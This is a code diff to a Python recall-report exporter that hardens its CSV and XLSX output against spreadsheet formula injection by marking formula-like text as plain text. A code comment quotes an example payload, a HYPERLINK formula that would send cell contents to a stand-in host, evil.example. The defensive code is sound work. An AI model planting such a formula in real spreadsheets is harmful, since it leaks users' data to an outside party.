@@ -99,7 +99,7 @@ class RecallReport:
         w = csv.writer(out, lineterminator="\r\n")
         w.writerow([h for _, h, _ in COLUMNS])
         for r in self.rows:
-            w.writerow(["" if r[k] is None else _plain_value(r[k]) for k, _, _ in COLUMNS])
+            w.writerow(["" if r[k] is None else _csv_text(_plain_value(r[k])) for k, _, _ in COLUMNS])
         return ("\ufeff" + out.getvalue()).encode("utf-8")
 
     def xlsx_bytes(self) -> bytes:
@@ -130,7 +130,7 @@ class RecallReport:
                            ("Consumers: scans with consent (opted in)", self.consumers["opted_in"]),
                            ("How consumers are reached", self.consumers["how"]),
                            ("Standard", STANDARD), ("Generated at (UTC)", _naive(self.generated_at))):
-            summary.append([key, _formatted(summary, value, NUMBER_FORMATS["datetime"]) if isinstance(value, datetime) else value])
+            summary.append([key, _formatted(summary, value, NUMBER_FORMATS["datetime"]) if isinstance(value, datetime) else _text_cell(summary, value)])
         buf = io.BytesIO()
         wb.save(buf)
         return buf.getvalue()
@@ -166,7 +166,7 @@ def _table(ws: Any, columns: Sequence[tuple[str, str, str]], rows: Sequence[dict
     ws.append([h for _, h, _ in columns])
     typed = [(key, kind, NUMBER_FORMATS.get(kind)) for key, _, kind in columns]
     for r in rows:
-        ws.append([_cell(r[key], kind) if fmt is None or r[key] is None else _formatted(ws, _cell(r[key], kind), fmt)
+        ws.append([_text_cell(ws, _cell(r[key], kind)) if fmt is None or r[key] is None else _formatted(ws, _cell(r[key], kind), fmt)
                    for key, kind, fmt in typed])
 
 
@@ -176,6 +176,29 @@ def _formatted(ws: Any, value: Any, number_format: str) -> Any:
     cell = WriteOnlyCell(ws, value)
     cell.number_format = number_format
     return cell
+
+
+# Text that a spreadsheet program would read as a formula (OWASP "CSV injection"): a supplier's site
+# name ``=HYPERLINK("https://evil.example/?"&A1,"open")`` must stay the text it is.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _text_cell(ws: Any, value: Any) -> Any:
+    """``value`` as it is, or, when it is text a spreadsheet would evaluate, a cell typed as text
+    (data type string, quote prefix): shown as written, never a formula. Numbers stay numbers."""
+    if not (isinstance(value, str) and value.startswith(FORMULA_STARTS)):
+        return value
+    from openpyxl.cell import WriteOnlyCell
+
+    cell = WriteOnlyCell(ws, value)
+    cell.data_type = "s"
+    cell.quotePrefix = True
+    return cell
+
+
+def _csv_text(value: Any) -> Any:
+    """The usual defence for CSV, which has no cell types: a leading apostrophe on such text."""
+    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
 
 
 def _cell(value: Any, kind: str) -> Any:
